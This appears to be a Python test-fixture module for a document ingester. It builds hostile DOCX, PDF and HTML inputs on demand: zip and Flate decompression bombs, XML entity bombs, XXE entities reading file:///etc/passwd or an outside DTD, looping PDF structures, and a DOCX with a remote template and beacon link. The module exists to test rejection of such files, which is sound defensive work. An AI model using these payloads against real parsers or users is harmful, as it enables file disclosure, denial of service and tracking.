"""Files that are made to harm whoever reads them: each is made when its test asks for it, none is kept."""

import struct
from collections.abc import Callable

from articles.ingest.docx_files import docx, packed, paragraph, run, with_files
from articles.ingest.pdf_files import assembled, column, pdf, stream

from annotator.articles.ingest import DOCX, PDF

HTML = "text/html"
WORDS = "The harbour was sold for 12 million."
SOUND = docx(paragraph(run(WORDS)))
Make = Callable[[], bytes]
Files = dict[str, tuple[Make, str, str]]
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_document(xml: str) -> bytes:
    """Give a Word document with this text in place of its own."""
    return with_files(SOUND, {"word/document.xml": xml})


def said_to_hold(raw: bytes, size: int) -> bytes:
    """Give the archive with the last entry of its directory said to unpack to so many bytes."""
    at = raw.rindex(b"PK\x01\x02")
    return raw[: at + 24] + struct.pack("<L", size) + raw[at + 28 :]


def entity_bomb(levels: int) -> str:
    """Give XML whose few entities unpack to ten times more at each level."""
    first = '<!ENTITY e0 "words">'
    more = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))
    return f"<!DOCTYPE w [{first}{more}]><w>&e{levels - 1};</w>"


def flate(mebibytes: int, filters: int, pages: int = 1) -> bytes:
    """Give a PDF whose pages each unpack to so much white space."""
    kids = b"".join(b"%d 0 R " % (4 + number) for number in range(pages))
    tree = b"<</Type/Pages/Count %d/MediaBox[0 0 9 9]/Kids[%s]>>" % (pages, kids)
    content = stream(b" " * (mebibytes << 20), filters=filters)
    leaf = b"<</Type/Page/Parent 2 0 R/Contents 3 0 R>>"
    return assembled([b"<</Type/Catalog/Pages 2 0 R>>", tree, content, *[leaf] * pages])


def looping_pages() -> bytes:
    """Give a PDF whose tree of pages holds itself."""
    tree = b"<</Type/Pages/Count 9/MediaBox[0 0 9 9]/Kids[2 0 R 2 0 R]>>"
    return assembled([b"<</Type/Catalog/Pages 2 0 R>>", tree])


def looping_table() -> bytes:
    """Give a PDF whose table of objects names itself as the one before."""
    raw = pdf([])
    place = raw.rindex(b"xref\n0")
    return raw.replace(b"trailer<<", b"trailer<</Prev %d" % place)


def encrypted_pdf() -> bytes:
    """Give a PDF that asks for a password."""
    protected = f"/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O({'o' * 32})/U({'u' * 32})>>"
    return assembled([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"], protected)


def encrypted_docx() -> bytes:
    """Give a Word document whose directory says that an entry is encrypted."""
    at = SOUND.rindex(b"PK\x01\x02")
    return SOUND[: at + 8] + b"\x01\x00" + SOUND[at + 10 :]


def reaching(address: str) -> Files:
    """Give Word documents whose XML names a file, or `address`, by entities and document types."""
    system = '<!DOCTYPE w [<!ENTITY x SYSTEM "{}">]><w>&x;</w>'
    parameter = f'<!DOCTYPE w [<!ENTITY % x SYSTEM "{address}"> %x;]><w/>'
    xml = {
        "a file": system.format("file:///etc/passwd"),
        "an address": system.format(address),
        "an outside DTD": f'<!DOCTYPE w SYSTEM "{address}"><w/>',
        "a parameter entity": parameter,
        "UTF-16": f'<?xml version="1.0" encoding="utf-16"?>{parameter}',
    }
    made: Files = {
        name: (lambda text=text: with_document(text), DOCX, "document type") for name, text in xml.items()
    }
    wide = xml["UTF-16"].encode("utf-16")
    made["UTF-16"] = (lambda: with_files(SOUND, {"word/document.xml": wide}), DOCX, "document type")
    return made


DIRECTORIES: Files = {
    "3 million paragraphs": (lambda: docx("<w:p/>" * 3_000_000), DOCX, "packed more than 200 times"),
    "300 MB of text": (
        lambda: with_document(f"<a>{'x' * 300_000_000}</a>"),
        DOCX,
        "more than 60 MB",
    ),
    "a picture of 1 GiB": (
        lambda: said_to_hold(with_files(SOUND, {"word/media/a.png": b"\0" * 99}), 1 << 30),
        DOCX,
        "more than 60 MB",
    ),
    "60,000 entries": (
        lambda: packed({f"word/{number}.xml": "" for number in range(60_000)}),
        DOCX,
        "more than 2000 files",
    ),
    "more than it says": (
        lambda: said_to_hold(with_files(SOUND, {"word/z.xml": "<a>" + "x" * 9_000_000 + "</a>"}), 10),
        DOCX,
        "damaged",
    ),
    "entities, exponential": (lambda: with_document(entity_bomb(10)), DOCX, "document type"),
    "entities, quadratic": (
        lambda: with_document(f'<!DOCTYPE w [<!ENTITY a "{"x" * 50_000}">]><w>{"&a;" * 50_000}</w>'),
        DOCX,
        "document type",
    ),
}
PDFS: Files = {
    "1 GiB of Flate": (lambda: flate(1_024, 1), PDF, "ran out of memory"),
    "2 KB of double Flate": (lambda: flate(512, 2), PDF, "ran out of memory"),
    "500 pages of 10 MB": (lambda: flate(10, 1, 500), PDF, ""),
    "pages inside themselves": (looping_pages, PDF, "No page of this PDF"),
    "a table that loops": (looping_table, PDF, ""),
}
UNREADABLE: Files = {
    "encrypted PDF": (encrypted_pdf, PDF, "asks for a password"),
    "encrypted DOCX": (encrypted_docx, DOCX, "encrypted"),
    "empty text": (lambda: b" \n", "text/plain", "No words"),
    "empty DOCX": (lambda: docx(""), DOCX, "No words"),
    "PDF cut off": (lambda: pdf([column([WORDS])])[:400], PDF, "cut off"),
    "DOCX cut off": (lambda: SOUND[:700], DOCX, "cut off"),
    "PDF without pages": (lambda: pdf([]), PDF, "without pages"),
}
MARKUP: Files = {
    "500 KB of <div>": (lambda: b"<div>" * 100_000, HTML, "nested deeper than 256"),
    "257 levels": (lambda: b"<div>" * 257 + b"words", HTML, "nested deeper than 256"),
    "100,000 attributes": (
        lambda: b"<p " + b" ".join(b'a%d="x"' % number for number in range(100_000)) + b">words</p>",
        HTML,
        "",
    ),
    "500,000 quotes": (lambda: b">" * 500_000, "text/markdown", "nested too deeply"),
}
ACTIVE = with_files(
    docx(
        paragraph(run(WORDS)) + '<w:p><w:hyperlink r:id="rId7">' + run("a file") + "</w:hyperlink></w:p>",
        links={
            "rId7": "file:///etc/passwd",
            "rId8": "\\\\server\\share",
            "rId9": "http://198.51.100.1/beacon",
        },
    ),
    {
        "word/vbaProject.bin": b"\0" * 99,
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
        "word/_rels/settings.xml.rels": RELATIONS.format(
            f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="http://198.51.100.1/a.dotm" '
            'TargetMode="External"/>'
        ),
    },
)
LYING = [
    (b"<html><p>words</p></html>", "a.docx", DOCX),
    (b"<html><p>words</p></html>", "a.docx", ""),
    (b"MZ\x90\x00 program", "a.pdf", PDF),
    (b"MZ\x90\x00 program", "a.pdf", ""),
    (pdf([column([WORDS])]), "a.html", HTML),
    (SOUND, "a.pdf", PDF),
    (SOUND, "a.txt", "text/plain"),
    (b"GIF89a", "a.png", "image/png"),
]
